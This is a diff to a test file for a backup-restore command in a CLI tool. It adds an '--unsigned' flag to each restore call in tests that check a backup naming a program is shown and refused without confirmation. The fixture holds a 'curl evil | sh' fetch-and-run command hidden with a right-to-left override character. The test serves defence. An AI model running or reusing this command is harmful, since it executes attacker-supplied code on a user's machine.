@@ -57,7 +57,7 @@ const shownProgram = String.raw`"/bin/sh" "-c" "curl evil \u{202e}| sh"`;
 
 // SECURITY.md: HUB-56
 test('without a terminal and without --yes a backup that names a program is refused, is shown, and what to do is said', async () => {
-  const { code, stderr } = await edgekeep('hub', 'restore', at('naming'), '--data', at('refused'));
+  const { code, stderr } = await edgekeep('hub', 'restore', '--unsigned', at('naming'), '--data', at('refused'));
   assert.equal(code, 3, stderr);
   assert.ok(stderr.includes(shownProgram), stderr);
   assert.match(stderr, /backup-refused: .*check it, then use --yes/);
@@ -65,14 +65,22 @@ test('without a terminal and without --yes a backup that names a program is refu
 });
 
 test('with --yes it is restored, and the program is shown all the same', async () => {
-  const { code, stderr } = await edgekeep('hub', 'restore', at('naming'), '--data', at('agreed'), '--yes');
+  const { code, stderr } = await edgekeep(
+    'hub',
+    'restore',
+    '--unsigned',
+    at('naming'),
+    '--data',
+    at('agreed'),
+    '--yes',
+  );
   assert.equal(code, 0, stderr);
   assert.ok(stderr.includes(shownProgram), stderr);
   assert.equal(await isThere('agreed'), true);
 });
 
 test('a backup that names no program is restored without a question', async () => {
-  const { code, stderr } = await edgekeep('hub', 'restore', at('plain'), '--data', at('silent'));
+  const { code, stderr } = await edgekeep('hub', 'restore', '--unsigned', at('plain'), '--data', at('silent'));
   assert.equal(code, 0, stderr);
   assert.equal(stderr, '');
 });
@@ -84,7 +92,7 @@ test('at a terminal the word yes restores, and every other answer does not', asy
     ['', false],
     ['yes', true],
   ] as const) {
-    const { code, shown } = await atTerminal(line, 'hub', 'restore', at('naming'), '--data', at('asked'));
+    const { code, shown } = await atTerminal(line, 'hub', 'restore', '--unsigned', at('naming'), '--data', at('asked'));
     assert.ok(shown.includes(shownProgram), shown);
     assert.equal(code, restored ? 0 : 3, shown);
     assert.equal(await isThere('asked'), restored, line);
